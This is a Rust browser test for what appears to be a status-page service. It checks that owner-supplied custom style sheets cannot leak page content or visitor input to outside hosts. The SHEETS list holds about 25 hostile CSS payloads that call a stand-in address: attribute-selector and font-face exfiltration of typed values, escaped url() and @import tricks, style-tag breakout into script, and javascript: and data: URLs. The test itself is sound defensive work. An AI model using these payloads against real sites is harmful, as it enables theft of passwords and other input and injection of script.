//! Hostile style sheets of an owner: what the browser requests is in the sheet, word for word, so that no request carries
//! anything of the page; and the documents in which visitors enter something carry no sheet of an owner.

use serde_json::{Value, json};

use crate::page_hostile::OPTIONS;
use crate::support::browser::Browser;
use crate::support::pages::{create_page, fresh, host_of, id_of, new_component, statuspage};
use crate::support::server::Server;

/// An address that refuses connections.
const ELSEWHERE: &str = "https://127.0.0.1:9";
const SECRET: &str = "correct horse";

/// Sheets that would tell somebody what the page says, or what is entered.
const SHEETS: &[&str] = &[
    "a[href^='/'] { background: url(ELSEWHERE/link) }",
    "a[href*='history'] { background: url('ELSEWHERE/history') } p:has(time) { background: url(ELSEWHERE/time) }",
    "input[value^='c'] { background: url(ELSEWHERE/c) } input[type=password]:valid { background: url(ELSEWHERE/valid) }",
    "input { background: url(ELSEWHERE/input) } input:focus { background: url(ELSEWHERE/focus) }",
    "form { background: url(ELSEWHERE/form) } button { background: image-set(url(ELSEWHERE/set) 1x) }",
    "@import 'ELSEWHERE/a.css'; @import url(ELSEWHERE/b.css); @\\69mport 'ELSEWHERE/c.css';",
    "@font-face { font-family: x; src: url(ELSEWHERE/a); unicode-range: U+0063 } * { font-family: x }",
    "@font-face { font-family: x; src: local(x), url('ELSEWHERE/b') } input, body { font-family: x }",
    "body { background: image-set('ELSEWHERE/set' 1x) }",
    "body { background: -webkit-image-set(url(ELSEWHERE/webkit) 1x) }",
    "body { background: \\75rl(http://127.0.0.1:9/escaped) } p { background: u\\72l(//127.0.0.1:9/relative) }",
    "body { background: url(http://127.0.0.1:9/plain) } main { background: URL(\\2f\\2f 127.0.0.1:9/x) }",
    "h1::before { content: url(ELSEWHERE/before) } h1::after { content: attr(id) url(ELSEWHERE/after) }",
    "body { --x: url(ELSEWHERE/variable); background: var(--x) } a { --a: attr(href); background: url(attr(href)) }",
    "a { background: url(attr(href type(<url>))) } h1 { background: image-set(attr(id) 1x) }",
    "body { width: expression(alert(1)); behavior: url(ELSEWHERE/x.htc); -moz-binding: url(ELSEWHERE/x.xml#x) }",
    "</style><script>alert(1)</script><style>body { color: red }",
    "/*</style>*/ <!-- body { background: url(javascript:alert(1)) } -->",
    "body { background: url(data:text/html,<script>alert(1)</script>) }",
    "li { list-style-image: url(ELSEWHERE/list) } body { cursor: url(ELSEWHERE/cursor), auto }",
    "main { mask-image: url(ELSEWHERE/mask#m); filter: url(ELSEWHERE/filter#f); clip-path: url(ELSEWHERE/clip#c) }",
    "@media (min-width: 1px) { body { border-image: url(ELSEWHERE/border) 1 } }",
    "@supports (display: grid) { .name { background: url(ELSEWHERE/name) } }",
    "@layer x { @scope (main) { h1 { background: url(ELSEWHERE/scope) } } } @container (width > 1px) { p { background: url(ELSEWHERE/p) } }",
    "@namespace x url(ELSEWHERE/namespace); @charset 'utf-7'; @property --y { syntax: '<url>'; inherits: true; initial-value: url(ELSEWHERE/property) }",
];

/// Asserts that each request goes to the page, or to an address that is in the sheet.
#[track_caller]
fn assert_constant(browser: &Browser, address: &str, sheet: &str) -> usize {
    let requests = browser.requests();
    let own = |url: &&String| url.starts_with(address) || url.starts_with("data:");
    let foreign: Vec<&String> = requests.iter().filter(|url| !own(url)).collect();
    for url in &foreign {
        assert!(sheet.contains(url.split('#').next().unwrap()), "{url} is not in {sheet}");
        assert!(!url.contains("correct"), "{url}");
    }
    foreign.len()
}

#[tokio::test]
async fn a_style_sheet_of_an_owner_tells_nobody_what_a_visitor_sees_or_enters() {
    let server = Server::shared();
    let client = server.bilingual_tenant();
    let Some(browser) = Browser::start(OPTIONS) else { return };
    let page = create_page(&client, &json!({"slug": fresh("sheets"), "subscriber_channels": ["webhook"]}));
    let (id, host) = (id_of(&page), host_of(&page));
    let path = statuspage(&id);
    new_component(&client, &id, &json!({"name": SECRET}));
    let address = format!("http://{host}:{}", client.address.port());
    let protected = create_page(
        &client,
        &json!({"slug": fresh("sheets"), "access_type": "password", "password": "battery staple"}),
    );
    let protected_address = format!("http://{}:{}", host_of(&protected), client.address.port());
    let mut foreign = 0;
    for sheet in SHEETS {
        let sheet = sheet.replace("ELSEWHERE", ELSEWHERE);
        let kept = client.patch(&path, &json!({ "custom_css": sheet })).expect(200).data();
        let kept = kept["custom_css"].as_str().unwrap_or_default().to_owned();
        browser.requests();
        browser.visit(&format!("{address}/"));
        foreign += assert_constant(&browser, &address, &kept);
        client.patch(&statuspage(&id_of(&protected)), &json!({ "custom_css": sheet })).expect(200);
        for (form, field) in
            [(format!("{address}/subscribe"), "#address"), (format!("{protected_address}/"), "#password")]
        {
            browser.requests();
            browser.visit(&form);
            browser.run(&format!("document.querySelector('{field}').focus()"));
            browser.press(SECRET);
            let sheets = browser.value("[...document.styleSheets].map((one) => one.href)");
            let is_shared = |href: &Value| href.as_str().is_none_or(|href| href.contains("/static/style."));
            assert!(sheets.as_array().unwrap().iter().all(is_shared), "{form}: {sheets}");
            let own = form.rsplit_once('/').unwrap().0;
            assert_eq!(assert_constant(&browser, own, ""), 0, "{form}");
            assert_eq!(browser.value(&format!("document.querySelector('{field}').value")), json!(SECRET));
        }
    }
    // The sheets do have an effect on the page.
    assert!(foreign > 5, "{foreign}");
}
